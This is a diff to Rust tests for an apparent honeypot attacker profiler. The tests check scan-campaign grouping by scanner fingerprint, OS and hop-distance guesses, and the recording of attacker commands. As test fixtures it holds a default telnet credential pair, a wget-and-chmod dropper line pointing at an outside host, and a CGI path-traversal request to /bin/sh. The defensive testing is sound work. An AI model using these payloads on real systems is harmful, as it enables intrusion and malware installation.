@@ -70,15 +70,18 @@ async fn store_with(dir: &std::path::Path, logs: &[NewLog]) -> Store {
 
 #[tokio::test]
 async fn restarts_after_random_batches_give_the_same_profiles() {
-    let logs = rows(20_000);
+    let logs = rows(100_000);
     let a = tempfile::tempdir().unwrap();
     let b = tempfile::tempdir().unwrap();
     let one = store_with(a.path(), &logs).await;
     let many = store_with(b.path(), &logs).await;
-    assert_eq!(Profiler::new(one.clone()).catch_up().await.unwrap(), 20_000);
+    assert_eq!(
+        Profiler::new(one.clone()).catch_up().await.unwrap(),
+        100_000
+    );
     let mut done = 0;
     let mut k = 1;
-    while done < 20_000 {
+    while done < 100_000 {
         // A fresh profiler each time: nothing survives but the database.
         done += Profiler::new(many.clone()).step(k).await.unwrap();
         k = k % 7 + 1;
@@ -87,10 +90,32 @@ async fn restarts_after_random_batches_give_the_same_profiles() {
     let sb = many.all_behaviors().await.unwrap();
     assert_eq!(sa.len(), 200);
     assert_eq!(sa, sb, "streaming states differ after restarts");
+    // Campaigns and detections too (detection bodies differ only in their wall-clock ts).
+    let campaigns = one.campaigns().await.unwrap();
+    assert!(
+        !campaigns.is_empty(),
+        "these rows are meant to form campaigns"
+    );
+    assert_eq!(campaigns, many.campaigns().await.unwrap());
+    let strip = |d: Vec<decnet::store::DetectionRow>| {
+        d.into_iter()
+            .map(|d| {
+                let mut v: serde_json::Value = serde_json::from_str(&d.body).unwrap();
+                v["ts"] = serde_json::Value::Null;
+                (d.id, d.ip, v)
+            })
+            .collect::<Vec<_>>()
+    };
+    let da = strip(one.detections_after(0, 1_000_000).await.unwrap());
+    assert!(!da.is_empty());
+    assert_eq!(
+        da,
+        strip(many.detections_after(0, 1_000_000).await.unwrap())
+    );
     for ip in sa.keys() {
         assert_eq!(
-            one.attacker_profile(ip).await.unwrap(),
-            many.attacker_profile(ip).await.unwrap()
+            decnet::profile::load(&one, ip).await.unwrap(),
+            decnet::profile::load(&many, ip).await.unwrap()
         );
     }
     // New rows are absorbed incrementally on top.
@@ -142,8 +167,10 @@ async fn profile_fields() {
     ));
     let store = store_with(d.path(), &logs).await;
     Profiler::new(store.clone()).catch_up().await.unwrap();
-    let p: serde_json::Value =
-        serde_json::from_str(&store.attacker_profile("10.9.9.9").await.unwrap().unwrap()).unwrap();
+    let p = decnet::profile::load(&store, "10.9.9.9")
+        .await
+        .unwrap()
+        .unwrap();
     assert_eq!(p["event_count"], 21);
     assert_eq!(p["deckies"], serde_json::json!(["web", "db"]));
     assert_eq!(p["is_traversal"], true);
@@ -164,4 +191,237 @@ async fn profile_fields() {
     assert_eq!(timing["median_iat_s"], 0.1);
     assert_eq!(timing["max_iat_s"], 1.0);
     assert!((timing["duration_s"].as_f64().unwrap() - 2.9).abs() < 1e-9);
+}
+
+/// A SYN as one scanner sends it: `(decky, port, seconds)`, fields of the named style.
+fn syn(ip: &str, decky: &str, port: u16, t: f64, style: &str) -> NewLog {
+    let fields = match style {
+        // nmap -sS (SIGNATURES.md): TTL 37-59, window 1024, MSS 1460 only, no DF.
+        "nmap" => format!(
+            r#"{{"dst_port":{port},"flags":"S","window":1024,"ttl":{},"options":"M1460","df":false}}"#,
+            40 + port % 7
+        ),
+        // hping3 -S: TTL 64, window 512, no options.
+        "hping3" => format!(
+            r#"{{"dst_port":{port},"flags":"S","window":512,"ttl":64,"options":"","df":false}}"#
+        ),
+        // unicornscan: TTL 255, window 4128, MSS, no DF.
+        "unicornscan" => format!(
+            r#"{{"dst_port":{port},"flags":"S","window":4128,"ttl":250,"options":"M1460","df":false}}"#
+        ),
+        // A Linux connect(): no tool signature.
+        _ => format!(
+            r#"{{"dst_port":{port},"flags":"S","window":64240,"ttl":62,"options":"M1460,S,T,N,W10","df":true}}"#
+        ),
+    };
+    NewLog {
+        ts: decnet::timefmt::rfc3339_ns(1_795_723_674_000_000_000 + (t * 1e9) as i64),
+        decky: decky.into(),
+        service: format!("tcp/{port}"),
+        event_type: "tcp_syn".into(),
+        attacker_ip: ip.into(),
+        fields,
+        trace_id: None,
+        span_id: None,
+    }
+}
+
+async fn profile_of(store: &Store, ip: &str) -> serde_json::Value {
+    decnet::profile::load(store, ip)
+        .await
+        .unwrap()
+        .unwrap_or_else(|| panic!("no profile for {ip}"))
+}
+
+/// Interleaves the sources' rows in time, as concurrent scanners arrive.
+fn interleave(per_source: Vec<Vec<NewLog>>) -> Vec<NewLog> {
+    let mut all: Vec<NewLog> = per_source.into_iter().flatten().collect();
+    all.sort_by(|a, b| a.ts.cmp(&b.ts));
+    all
+}
+
+#[tokio::test]
+async fn three_sources_splitting_a_port_range_form_one_campaign() {
+    let d = tempfile::tempdir().unwrap();
+    let ips = ["10.7.0.1", "10.7.0.2", "10.7.0.3"];
+    // Ports 1-3000 split in thirds, one SYN every 10 ms each, all at the same time.
+    let rows = interleave(
+        ips.iter()
+            .enumerate()
+            .map(|(k, ip)| {
+                (1..=1000u16)
+                    .map(|i| syn(ip, "web", k as u16 * 1000 + i, i as f64 * 0.01, "nmap"))
+                    .collect()
+            })
+            .collect(),
+    );
+    let store = store_with(d.path(), &rows).await;
+    let hub = decnet::hub::Hub::default();
+    let mut live = hub.subscribe_detections();
+    Profiler::with_hub(store.clone(), hub)
+        .catch_up()
+        .await
+        .unwrap();
+    let campaigns = store.campaigns().await.unwrap();
+    assert_eq!(campaigns.len(), 1, "{campaigns:?}");
+    let (id, summary) = &campaigns[0];
+    let c: serde_json::Value = serde_json::from_str(summary).unwrap();
+    assert_eq!(c["members"], serde_json::json!(ips));
+    assert_eq!(c["member_count"], 3);
+    assert_eq!(c["tools"], serde_json::json!(["nmap"]));
+    assert_eq!((&c["port_min"], &c["port_max"]), (&1.into(), &3000.into()));
+    assert!(
+        c["evidence"]
+            .as_array()
+            .unwrap()
+            .contains(&serde_json::json!("one port range split between sources")),
+        "{c}"
+    );
+    for ip in ips {
+        let p = profile_of(&store, ip).await;
+        assert_eq!(p["campaign_id"], *id, "{ip}: {p}");
+        let reasons = p["risk"]["reasons"].to_string();
+        assert!(reasons.contains(&format!("campaign {id}")), "{reasons}");
+    }
+    // Each member was announced joining it, live and in the database.
+    let mut joined = std::collections::BTreeSet::new();
+    while let Ok(d) = live.try_recv() {
+        let body: serde_json::Value = serde_json::from_str(&d.body).unwrap();
+        if body["changes"]
+            .as_array()
+            .unwrap()
+            .contains(&serde_json::json!("campaign"))
+        {
+            assert_eq!(body["campaign_id"], *id);
+            joined.insert(d.ip.clone());
+        }
+    }
+    assert_eq!(joined.len(), 3, "{joined:?}");
+    let stored = store.detections_after(0, 1000).await.unwrap();
+    assert!(stored.len() >= 3);
+    assert!(stored.windows(2).all(|w| w[0].id < w[1].id));
+}
+
+#[tokio::test]
+async fn unrelated_sources_and_a_lone_scanner_form_no_campaign() {
+    let d = tempfile::tempdir().unwrap();
+    let mut per_source = vec![];
+    // Three tools with different fingerprints on the same decoy at the same time.
+    for (ip, style) in [
+        ("10.8.0.1", "nmap"),
+        ("10.8.0.2", "hping3"),
+        ("10.8.0.3", "unicornscan"),
+    ] {
+        per_source.push(
+            (1..=300u16)
+                .map(|p| syn(ip, "web", p, p as f64 * 0.01, style))
+                .collect(),
+        );
+    }
+    // A Linux host's own connect()s to the same ports: no tool, so never in a campaign.
+    per_source.push(
+        (1..=300u16)
+            .map(|p| syn("10.8.0.4", "web", p, p as f64 * 0.01, "linux"))
+            .collect(),
+    );
+    // The same nmap fingerprint, but two hours later: not together.
+    per_source.push(
+        (1..=300u16)
+            .map(|p| syn("10.8.0.5", "web", p, 7200.0 + p as f64 * 0.01, "nmap"))
+            .collect(),
+    );
+    // The same nmap fingerprint at the same time, but on another decoy.
+    per_source.push(
+        (1..=300u16)
+            .map(|p| syn("10.8.0.6", "db", p, p as f64 * 0.01, "nmap"))
+            .collect(),
+    );
+    let store = store_with(d.path(), &interleave(per_source)).await;
+    Profiler::new(store.clone()).catch_up().await.unwrap();
+    assert_eq!(store.campaigns().await.unwrap(), vec![]);
+    for (ip, tool) in [
+        ("10.8.0.1", "nmap"),
+        ("10.8.0.2", "hping3"),
+        ("10.8.0.3", "unicornscan"),
+    ] {
+        let p = profile_of(&store, ip).await;
+        assert_eq!(p["tools"], serde_json::json!([tool]), "{p}");
+        assert_eq!(p["campaign_id"], serde_json::Value::Null);
+    }
+    // The OS guess comes only from the source's own stack, and hop distance only from a
+    // TTL the sender did not randomise.
+    let linux = profile_of(&store, "10.8.0.4").await;
+    assert_eq!(linux["os_guess"], "Linux", "{linux}");
+    assert_eq!(linux["hop_distance"], 2);
+    assert_eq!(linux["tools"], serde_json::json!([]));
+    let hping = profile_of(&store, "10.8.0.2").await;
+    assert_eq!(hping["os_guess"], serde_json::Value::Null);
+    assert_eq!(hping["hop_distance"], 0);
+}
+
+#[tokio::test]
+async fn commands_credentials_and_exploits_reach_the_profile() {
+    use base64::Engine as _;
+    let d = tempfile::tempdir().unwrap();
+    let payload = |ip: &str, port: u16, text: &[u8], t: i64| NewLog {
+        ts: decnet::timefmt::rfc3339_ns(1_795_723_674_000_000_000 + t * 1_000_000_000),
+        decky: "web".into(),
+        service: format!("tcp/{port}"),
+        event_type: "tcp_payload".into(),
+        attacker_ip: ip.into(),
+        fields: serde_json::json!({
+            "dst_port": port,
+            "flags": "PA",
+            "payload_len": text.len(),
+            "payload_b64": base64::engine::general_purpose::STANDARD.encode(text),
+        })
+        .to_string(),
+        trace_id: None,
+        span_id: None,
+    };
+    let ip = "10.6.0.1";
+    let logs = vec![
+        payload(ip, 23, b"root\r\nxc3511\r\n", 0),
+        payload(
+            ip,
+            23,
+            b"admin\r\ncd /tmp; wget http://10.6.0.9/m.sh; chmod +x m.sh\r\n",
+            1,
+        ),
+        payload(
+            ip,
+            80,
+            b"GET /cgi-bin/../../../../bin/sh HTTP/1.1\r\nHost: x\r\n\r\n",
+            2,
+        ),
+        payload(
+            ip,
+            80,
+            b"GET /cgi-bin/../../../../bin/sh HTTP/1.1\r\n\r\n",
+            3,
+        ),
+    ];
+    let store = store_with(d.path(), &logs).await;
+    Profiler::new(store.clone()).catch_up().await.unwrap();
+    let p = profile_of(&store, ip).await;
+    let commands: Vec<&str> = p["commands"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["command"].as_str().unwrap())
+        .collect();
+    // Distinct commands in first-seen order; the repeated request is counted, not listed twice.
+    assert_eq!(
+        commands,
+        ["root", "admin", "GET /cgi-bin/../../../../bin/sh HTTP/1.1"],
+        "{p}"
+    );
+    assert_eq!(p["command_count"], 4);
+    assert_eq!(p["commands"][2]["service"], "tcp/80");
+    assert_eq!(p["commands"][2]["decky"], "web");
+    assert_eq!(p["credential_count"], 2);
+    let reasons = p["risk"]["reasons"].to_string();
+    assert!(reasons.contains("credentials"), "{reasons}");
+    assert!(reasons.contains("path traversal"), "{reasons}");
+    assert!(p["risk"]["score"].as_u64().unwrap() >= 50, "{}", p["risk"]);
 }
